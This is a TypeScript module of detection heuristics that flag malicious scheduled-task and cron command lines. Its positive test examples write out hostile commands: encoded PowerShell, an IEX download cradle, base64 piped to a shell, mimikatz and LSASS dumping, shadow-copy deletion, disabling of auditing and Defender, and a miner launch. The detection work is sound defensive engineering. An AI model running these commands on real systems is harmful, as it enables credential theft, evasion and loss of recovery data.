/** Command-line content: encoding, obfuscation, hidden windows, known tool keywords, tampering. */
import { ENCODED_PS, commandText, isWindows } from './signals';
import type { Heuristic } from './types';

const hit = (id: string, detail: string) => ({ id, detail });
const clip = (s: string, n = 60) => (s.length > n ? `${s.slice(0, n)}…` : s);

export const commandHeuristics: Heuristic[] = [
  {
    id: 'TL-CMD-ENCODED-POWERSHELL',
    title: 'PowerShell -EncodedCommand',
    explanation: 'A base64 -enc payload hides the script from anyone reading the task; admins rarely need it.',
    attack: 'T1027.010',
    family: 'command',
    severity: 5,
    examples: {
      positive: [
        { command: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' },
        { command: 'pwsh -EncodedCommand ZQBjAGgAbwAgADEAMgAzAA==' },
      ],
      negative: [{ command: 'powershell.exe -File c:\\s\\enc.ps1' }, { command: 'x.exe -e 5' }],
    },
    test(i) {
      if (!/powershell|pwsh/i.test(i.command)) return null;
      const m = ENCODED_PS.exec(i.command);
      return m ? hit(this.id, `encoded command ${clip(m[0].trim(), 40)}`) : null;
    },
  },
  {
    id: 'TL-CMD-BASE64-DECODE',
    title: 'Decodes base64 at run time',
    explanation: 'FromBase64String, base64 -d or openssl base64 -d unpack a hidden payload when the job fires.',
    attack: 'T1140',
    family: 'command',
    severity: 4,
    examples: {
      positive: [
        { command: 'powershell -c [System.Convert]::FromBase64String($x)' },
        { family: 'cron', command: 'echo Y3VybCBodHRwOi8vYQ== | base64 -d | sh' },
        { family: 'cron', command: 'openssl enc -base64 -d -in /tmp/a | bash' },
      ],
      negative: [{ family: 'cron', command: 'base64 /etc/hostname > /tmp/h' }],
    },
    test(i) {
      const m = /frombase64string|\bbase64\s+(?:-\S*\s+)*(?:-d|--decode|-D)\b|openssl\s+(?:enc\s+)?-?base64\b[^|;]*\s-d\b|b64decode|atob\(/i.exec(i.command);
      return m ? hit(this.id, `decodes base64 (${m[0]})`) : null;
    },
  },
  {
    id: 'TL-CMD-IEX',
    title: 'Invoke-Expression of a built string',
    explanation: 'IEX runs text as code; combined with a download or decode it is the core of most PowerShell loaders.',
    attack: 'T1059.001',
    family: 'command',
    severity: 4,
    examples: {
      positive: [{ command: 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a\')"' }, { command: 'powershell -c $s | Invoke-Expression' }],
      negative: [{ command: 'C:\\Program Files\\IEXplore\\iexplore.exe' }, { command: 'powershell -File c:\\x\\iex-report.ps1' }],
    },
    test(i) {
      const m = /\binvoke-expression\b|(?:^|[\s;|(&"'])(?:iex)\s*[("'$(]|\|\s*iex\b|&\s*\(\s*\$\w+\s*\)/i.exec(i.command);
      return m ? hit(this.id, `Invoke-Expression (${m[0].trim()})`) : null;
    },
  },
  {
    id: 'TL-CMD-OBFUSCATION',
    title: 'Character-code or tick obfuscation',
    explanation: '[char]65 sequences, String.fromCharCode, chr() chains or I`E`X ticks exist only to defeat string matching.',
    attack: 'T1027',
    family: 'command',
    severity: 4,
    examples: {
      positive: [
        { command: 'powershell -c ([char]73+[char]69+[char]88)' },
        { command: 'powershell -c I`E`X $x' },
        { command: 'mshta javascript:eval(String.fromCharCode(97,108))' },
      ],
      negative: [{ command: 'powershell -c Write-Host "[char] note"' }],
    },
    test(i) {
      const c = i.command;
      const chars = c.match(/\[char\]\s*0?x?[0-9a-f]+/gi) ?? [];
      if (chars.length >= 3) return hit(this.id, `${chars.length} [char] casts`);
      const m = /fromcharcode\s*\(|(?:chr\(\d+\)\s*[.&+]\s*){3}|\b\w*(?:`\w){2,}|\$env:comspec\[\d+|-join\s*\(?\s*\[char/i.exec(c);
      return m ? hit(this.id, `obfuscation: ${clip(m[0], 40)}`) : null;
    },
  },
  {
    id: 'TL-CMD-BASE64-BLOB',
    title: 'Long base64 blob in the command line',
    explanation: 'A 100+ character base64 run in a task or crontab is a packed payload, not configuration.',
    attack: 'T1027',
    family: 'command',
    severity: 3,
    examples: {
      positive: [{ family: 'cron', command: `echo ${'QUJDRGVmZ2hpams'.repeat(8)} | base64 -d | sh` }],
      negative: [{ family: 'cron', command: '/usr/local/bin/sync --token=abc123 --dir /var/lib/app' }, { command: `c:\\a\\${'a'.repeat(120)}.exe` }],
    },
    test(i) {
      for (const [m] of i.command.matchAll(/[A-Za-z0-9+/]{100,}={0,2}/g)) {
        // A real blob mixes cases and digits; a long path or hex hash does not.
        if (/[A-Z]/.test(m) && /[a-z]/.test(m) && /[0-9+/]/.test(m)) return hit(this.id, `base64 blob of ${m.length} chars (${clip(m, 24)})`);
      }
      return null;
    },
  },
  {
    id: 'TL-CMD-HIDDEN-WINDOW',
    title: 'PowerShell with a hidden window',
    explanation: '-WindowStyle Hidden (often with -nop -noni) keeps a scheduled script invisible to the logged-on user.',
    attack: 'T1564.003',
    family: 'command',
    severity: 3,
    appliesTo: ['windows_task', 'windows_autorun'],
    examples: {
      positive: [{ command: 'powershell.exe -WindowStyle Hidden -nop -c ""' }, { command: 'powershell -w hidden -c x' }, { command: 'powershell -win hid -c x' }],
      negative: [{ command: 'powershell.exe -NoProfile -File c:\\s\\a.ps1' }],
    },
    test(i) {
      const m = /\s[-/]w(?:i\w*)?\s+(?:hidden|hid|h|1)\b/i.exec(i.command);
      if (!m || !/powershell|pwsh/i.test(i.command)) return null;
      const extra = /\s-(?:nop|noprofile)\b/i.test(i.command) ? ' with -NoProfile' : '';
      return hit(this.id, `${m[0].trim()}${extra}`);
    },
  },
  {
    id: 'TL-CMD-EXECPOLICY-BYPASS',
    title: 'PowerShell execution policy bypass',
    explanation: '-ExecutionPolicy Bypass/Unrestricted disables the script-signing guard; common in loaders, tolerated in admin scripts.',
    attack: 'T1059.001',
    family: 'command',
    severity: 2,
    appliesTo: ['windows_task', 'windows_autorun'],
    examples: {
      positive: [{ command: 'powershell -ExecutionPolicy Bypass -File c:\\x.ps1' }, { command: 'powershell -ep bypass -c x' }],
      negative: [{ command: 'powershell -ExecutionPolicy RemoteSigned -File c:\\x.ps1' }],
    },
    test(i) {
      const m = /\s[-/](?:ex\w*|ep)\s+(?:bypass|unrestricted)\b/i.exec(i.command);
      return m ? hit(this.id, m[0].trim()) : null;
    },
  },
  {
    id: 'TL-CMD-HACKTOOL',
    title: 'Credential-theft or offensive tool keywords',
    explanation: 'mimikatz modules, LSASS dumping and similar keywords have no benign scheduled use.',
    attack: 'T1003.001',
    family: 'command',
    severity: 5,
    examples: {
      positive: [
        { command: 'C:\\TMP\\mim.exe sekurlsa::LogonPasswords > C:\\TMP\\o.txt' },
        { command: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x\\l.dmp full' },
        { command: 'procdump.exe -accepteula -ma lsass.exe c:\\x\\l.dmp' },
      ],
      negative: [{ command: 'C:\\Windows\\System32\\lsass.exe' }, { command: 'procdump.exe -ma w3wp.exe' }],
    },
    test(i) {
      const re = /\b(?:sekurlsa|lsadump|kerberos|privilege|crypto|token|dpapi|vault)::\w+|invoke-mimikatz|\bmimikatz\b|comsvcs(?:\.dll)?[, ]+#?(?:minidump|24)\b|-ma\s+lsass|\blsass\.dmp\b|\brubeus\b|\bsharphound\b|invoke-(?:kerberoast|bloodhound|shellcode|reflectivepeinjection)|\bntdsutil\b.*\bifm\b|\blazagne\b/i;
      const m = re.exec(i.command);
      return m ? hit(this.id, `offensive-tool keyword "${m[0]}"`) : null;
    },
  },
  {
    id: 'TL-CMD-DEFENSE-TAMPER',
    title: 'Disables security tooling, logs or recovery',
    explanation: 'Jobs that turn off Defender, firewalls, SELinux, auditd, event logs or shadow copies prepare the ground for an attack.',
    attack: 'T1562.001',
    family: 'command',
    severity: 4,
    examples: {
      positive: [
        { command: 'powershell Set-MpPreference -DisableRealtimeMonitoring $true' },
        { command: 'powershell Add-MpPreference -ExclusionPath C:\\' },
        { command: 'vssadmin delete shadows /all /quiet' },
        { family: 'cron', command: 'setenforce 0; systemctl stop auditd' },
        { command: 'wevtutil cl Security' },
      ],
      negative: [{ command: 'powershell Get-MpPreference' }, { family: 'cron', command: 'systemctl restart nginx' }],
    },
    test(i) {
      const re = /set-mppreference\s+[^|;]*-disable\w*|add-mppreference\s+[^|;]*-exclusion\w*|\bsc(?:\.exe)?\s+(?:stop|config)\s+windefend\b|netsh\s+(?:adv)?firewall\s+set\s+\S+\s+state\s+off|vssadmin(?:\.exe)?\s+delete\s+shadows|wmic\s+shadowcopy\s+delete|wevtutil(?:\.exe)?\s+cl\b|bcdedit[^|;]*recoveryenabled\s+no|\bsetenforce\s+0|systemctl\s+(?:stop|disable|mask)\s+(?:auditd|firewalld|apparmor|falco\w*|osqueryd)|\bufw\s+disable|iptables\s+-F\b|\bhistory\s+-c\b|auditctl\s+-D\b|clear-eventlog/i;
      const m = re.exec(i.command);
      return m ? hit(this.id, `tampering: ${clip(m[0])}`) : null;
    },
  },
  {
    id: 'TL-CMD-MINER',
    title: 'Cryptocurrency miner indicators',
    explanation: 'stratum:// pools and xmrig-style options are the payload of most cron-based compromises.',
    attack: 'T1496',
    family: 'command',
    severity: 5,
    examples: {
      positive: [{ family: 'cron', command: '/tmp/.x/xmrig -o stratum+tcp://pool.x:3333 -u w' }, { family: 'cron', command: '/var/tmp/kinsing' }],
      negative: [{ family: 'cron', command: '/usr/bin/certbot renew' }],
    },
    test(i) {
      const m = /stratum\+(?:tcp|ssl|tls):\/\/|\bxmrig\b|\bminerd\b|\bcpuminer\b|--donate-level|\bkinsing\b|\bkdevtmpfsi\b|\bnanominer\b|\bxmr-stak\b/i.exec(commandText(i));
      return m ? hit(this.id, `miner indicator "${m[0]}"`) : null;
    },
  },
  {
    id: 'TL-CMD-REGISTRY-PAYLOAD',
    title: 'Reads its payload from the registry',
    explanation: 'Fileless loaders keep the script in a registry value and have the task read and execute it.',
    attack: 'T1112',
    family: 'command',
    severity: 4,
    reference: 'Sigma: Scheduled Task Executing Payload from Registry (86588b36-c6d3-465f-9cee-8f9093e07798)',
    appliesTo: ['windows_task', 'windows_autorun'],
    examples: {
      positive: [{ command: 'powershell -c "iex ([Text.Encoding]::UTF8.GetString((Get-ItemProperty HKCU:\\Software\\x).p))"' }],
      negative: [{ command: 'powershell -c Get-ItemProperty HKLM:\\Software\\x | Out-File c:\\x.txt' }],
    },
    test(i) {
      if (!isWindows(i)) return null;
      const reads = /get-itemproperty|\bgp\s|getvalue\(|reg(?:\.exe)?\s+query/i.test(i.command);
      const runsIt = /\biex\b|invoke-expression|frombase64string|\[scriptblock\]::create|\.invoke\(/i.test(i.command);
      return reads && runsIt ? hit(this.id, 'reads a registry value and executes or decodes it') : null;
    },
  },
];
